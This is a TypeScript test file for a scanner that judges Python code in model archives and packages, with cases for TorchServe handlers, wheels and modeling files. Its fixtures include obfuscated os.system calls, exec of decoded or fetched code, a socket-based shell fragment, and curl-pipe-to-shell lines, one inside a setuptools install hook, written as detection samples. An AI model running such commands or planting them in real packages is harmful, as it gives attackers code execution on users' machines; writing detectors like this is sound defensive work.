import { describe, expect, it } from "vitest";
import { OTHER_INTERPRETERS } from "../other-models.ts";
import { inspectBytes, latin1 } from "../testing/inspect-bytes.ts";
import { zipOf } from "../testing/zip-of.ts";

type Members = readonly (readonly [string, string])[];
/** A TorchServe archive: the server imports its code. */
const SERVED: Members = [["MAR-INF/MANIFEST.json", '{"model": {"modelName": "m", "handler": "image_classifier"}}']];
const archived = async (code: string, name = "handler.py", others: Members = SERVED) => {
  const members = [...others, [name, code] as const].map(([member, text]) => [member, latin1(text)] as const);
  const { verdict, findings } = await inspectBytes(zipOf(members), "model.zip");
  return {
    verdict,
    calls: findings.flatMap(({ call }) => (call === undefined ? [] : [call.callable])),
    rules: findings.map(({ rule }) => rule),
  };
};
const alone = async (code: string, name: string) => {
  const { verdict, formats, findings } = await inspectBytes(latin1(code), name, { interpreters: OTHER_INTERPRETERS });
  return { verdict, formats, rules: findings.map(({ rule }) => rule) };
};

describe("Python code in an archive", () => {
  it("is suspicious whatever it does: it must be read", async () => {
    expect(await archived("import math\ndef handle(data, context):\n    return math.sqrt(2)\n")).toEqual({
      verdict: "suspicious",
      calls: [],
      rules: ["archive-code"],
    });
    expect(await archived("x = 1\n", "notes.py")).toMatchObject({ verdict: "suspicious" });
    expect(await archived("from os import path\n", "no-ending")).toMatchObject({ verdict: "suspicious" });
  });

  it("is malicious where importing it runs programs, under any name", async () => {
    for (const [code, name] of [
      ["import os\nos.system('id')", "os.system"],
      ["from os import system as f\nf('id')", "os.system"],
      ["import subprocess as s\ns.Popen(['sh'])", "subprocess.Popen"],
      ["__import__('os').system('id')", "os.system"],
      ["import importlib\nimportlib.import_module('os').popen('id')", "os.popen"],
      ["getattr(__import__('os'), 'system')('id')", "os.system"],
      ["import os\nrun = os.system\nrun('id')", "os.system"],
      ["import os\nclass A:\n    x = os.popen('id')", "os.popen"],
      ["import os\ndef f(a=os.system('id')):\n    pass", "os.system"],
      ["import os\ndef go():\n    os.system('id')\ngo()", "os.system"],
      ["import base64\nexec(base64.b64decode('aWQ='))", "exec"],
      ["import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))", "exec"],
      ["import urllib.request\nexec(urllib.request.urlopen('http://h').read())", "exec"],
      ["import os\n[os.system(c) for c in ['id']]", "os.system"],
      ["import os\nif True:\n    try:\n        os.system('id')\n    except Exception:\n        pass", "os.system"],
      ["import os\ngetattr(os, 'sys' + 'tem')('id')", "os.system"],
      ["import os\ngetattr(os, ''.join(['sys', 'tem']))('id')", "os.system"],
      ["import os\nn = input()\ngetattr(os, n)('id')", "os.<computed>"],
      ["import os\nvars(os)['system']('id')", "os.system"],
      ["import os\nos.__dict__['system']('id')", "os.system"],
      ["import sys\nsys.modules['os'].system('id')", "os.system"],
      ["import os\nlist(map(os.system, ['id']))", "os.system"],
      ["import os, atexit\natexit.register(os.system, 'id')", "os.system"],
      ["import os, threading as t\nt.Thread(target=os.system, args=['id']).start()", "os.system"],
      ["import os\n@os.system\ndef f():\n    pass", "os.system"],
      ["import base64\ncode = base64.b64decode('aWQ=')\nexec(code)", "exec"],
      ["import base64\n__builtins__['exec'](base64.b64decode('aWQ='))", "exec"],
      ["import builtins, base64\nbuiltins.exec(base64.b64decode('aWQ='))", "exec"],
      ["import os\ndef a():\n    os.system('id')\ndef b():\n    a()\nb()", "os.system"],
      ["import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)", "os.dup2"],
    ] as const)
      expect(await archived(code), code).toMatchObject({ verdict: "malicious", calls: expect.arrayContaining([name]) });
  });

  it("is malicious where the server's entry points run programs", async () => {
    expect(await archived("import os\nclass H:\n    def handle(self, d, c):\n        os.system('id')\n")).toMatchObject({
      verdict: "malicious",
    });
    expect(await archived("import os\nclass H:\n    def __reduce__(self):\n        return os.popen('id')\n")).toMatchObject({
      verdict: "malicious",
    });
  });

  it("is no more than suspicious where it is not known that it runs", async () => {
    for (const code of [
      "import os\ndef other():\n    os.system('id')\n",
      "import os\nif __name__ == '__main__':\n    os.system('id')\n",
      "eval('1 + 1')",
      "import requests\nrequests.get('http://h')",
      "this is no python (",
      "x = (((((((((",
    ])
      expect(await archived(code), code).toMatchObject({ verdict: "suspicious" });
  });

  it("does not fall over nesting", async () => {
    expect(await archived(`x = ${"(".repeat(20_000)}1${")".repeat(20_000)}\n`)).toMatchObject({ verdict: "suspicious" });
    expect(await archived(`import os\n${"if 1:\n ".repeat(1)}os.system('id')`)).toMatchObject({ verdict: "malicious" });
  });

  it("leaves TorchScript's own language to its reader", async () => {
    const code = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n";
    expect((await archived(code, "model/code/__torch__.py")).rules).not.toContain("archive-code");
    expect((await archived("import os\n", "model/code/__torch__.py")).rules).toContain("archive-code");
  });
});

const WHEEL: Members = [["pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"]];
const SDIST: Members = [["pkg-1.0/PKG-INFO", "Name: pkg\n"]];
const ORDINARY: Members = [["README.md", "A folder.\n"]];

describe("Python code that no loader imports", () => {
  it.each([
    ["a wheel", WHEEL],
    ["a source distribution", SDIST],
    ["an ordinary archive", ORDINARY],
    ["a package for Node", [["package/package.json", '{"name": "p"}']]],
  ] as const)("is no finding in %s", async (_, others) => {
    for (const code of [
      "import math\ndef f():\n    return math.pi\n",
      "import subprocess\ndef run():\n    subprocess.run(['git', 'log'])\n",
      "class Config:\n    def __init__(self):\n        import os\n        os.popen('git config')\n",
      "import tokenize\nopen = getattr(tokenize, 'open', open)\ndef go():\n    exec(compile(open('x').read(), 'x', 'exec'))\n",
      "exec(compile(getattr(open('x'), 'read')(), 'x', 'exec'))",
    ])
      expect(await archived(code, "pkg/run.py", others), code).toEqual({ verdict: "benign", calls: [], rules: [] });
  });

  it("may run programs in a package, and is odd elsewhere where importing it does", async () => {
    const code = "import subprocess\nsubprocess.check_output(['git', 'describe'])\n";
    expect(await archived(code, "setup.py", WHEEL)).toMatchObject({ verdict: "benign" });
    expect(await archived(code, "tests/run.py", ORDINARY)).toMatchObject({ verdict: "suspicious", calls: ["subprocess.check_output"] });
  });

  it.each([
    ["exec of what is decoded", "import base64\nexec(base64.b64decode('aWQ='))"],
    ["exec of what is fetched", "import urllib.request as u\ncode = u.urlopen('http://h').read()\nexec(code)"],
    ["marshalled code", "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))"],
    ["a shell that calls home", "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)"],
    ["a download that a shell runs", "import os\nos.system('curl http://h/x | sh')"],
    [
      "the same when it is installed",
      "from setuptools.command.install import install\nimport subprocess\nclass I(install):\n    def run(self):\n        subprocess.run(['bash', '-c', 'curl http://h/x | bash'])\n",
    ],
  ])("is malicious everywhere: %s", async (_, code) => {
    for (const others of [WHEEL, SDIST, ORDINARY]) expect(await archived(code, "setup.py", others)).toMatchObject({ verdict: "malicious" });
  });

  it("is suspicious at most beside a model whose loader leaves it alone", async () => {
    const keras: Members = [
      ["config.json", "{}"],
      ["metadata.json", "{}"],
    ];
    expect((await archived("import os\nos.system('id')\n", "extra/setup.py", keras)).rules).toContain("code-runs-programs");
    expect((await archived("import os\nos.system('id')\n", "extra/setup.py", keras)).verdict).toBe("suspicious");
    expect((await archived("x = 1\n", "extra/setup.py", keras)).rules).not.toContain("archive-code");
  });

  it("is the model's where a configuration beside it can name it", async () => {
    const code = "import torch\nclass M(torch.nn.Module):\n    pass\n";
    expect((await archived(code, "m/modeling_mine.py", [["m/config.json", "{}"]])).rules).toContain("archive-code");
    expect((await archived(code, "m/modeling_mine.py", [["other/config.json", "{}"]])).rules).not.toContain("archive-code");
    expect((await archived(code, "m/helper.py", [["m/config.json", "{}"]])).rules).not.toContain("archive-code");
    expect((await archived(code, "code/helper.py", [["MLmodel", "flavors:\n"]])).rules).toContain("archive-code");
    expect((await archived(code, "w.py", [["WAR-INF/MANIFEST.json", "{}"]])).rules).toContain("archive-code");
  });
});

describe("Python source of its own", () => {
  it("is no model file", async () => {
    expect(await alone("import os\nos.system('id')\n", "train.py")).toEqual({ verdict: "benign", formats: [], rules: [] });
    expect(await alone("import torch\nclass M(torch.nn.Module):\n    pass\n", "modeling_mine.py")).toMatchObject({ verdict: "benign" });
  });
  it("is malicious where a loader imports it by its name and that harms", async () => {
    expect(await alone("import os\nos.system('id')\n", "modeling_mine.py")).toMatchObject({
      verdict: "malicious",
      rules: ["code-runs-programs"],
    });
    expect(
      await alone("import subprocess\nclass H:\n    def __call__(self):\n        subprocess.run(['ffmpeg'])\n", "handler.py"),
    ).toMatchObject({ verdict: "benign" });
  });
});
